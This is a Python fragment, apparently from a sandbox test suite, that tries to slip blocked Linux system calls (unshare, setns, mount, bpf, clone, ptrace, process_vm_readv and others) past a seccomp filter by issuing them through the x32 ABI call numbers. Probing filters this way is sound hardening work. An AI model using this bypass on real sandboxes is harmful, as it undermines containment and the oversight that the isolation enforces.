# technique: make the refused calls through the x32 ABI (the x32 bit in the call number,
# same audit architecture as x86_64), hoping the filter matches only x86_64 numbers.


X32 = 0x40000000


def attempts():
    # x32 numbers: the x86_64 number with the x32 bit, except for calls x32 numbers apart
    return {
        "x32 unshare": call({"x86_64": X32 | 272}, 0x10000000),
        "x32 setns": call({"x86_64": X32 | 308}, -1, 0),
        "x32 mount": call({"x86_64": X32 | 165}, 0, 0, 1, 0, 0),
        "x32 keyctl": call({"x86_64": X32 | 250}, 9999, 0, 0, 0, 0),
        "x32 bpf": call({"x86_64": X32 | 321}, 9999, 0, 0),
        "x32 clone": call({"x86_64": X32 | 56}, 0x10000000 | 17, 0, 0, 0, 0),
        "x32 clone3": call({"x86_64": X32 | 435}, 0, 0),
        "x32 ptrace": call({"x86_64": X32 | 521}, 0, 0, 0, 0),
        "x32 process_vm_readv": call({"x86_64": X32 | 539}, os.getppid(), 0, 0, 0, 0, 1),
    }
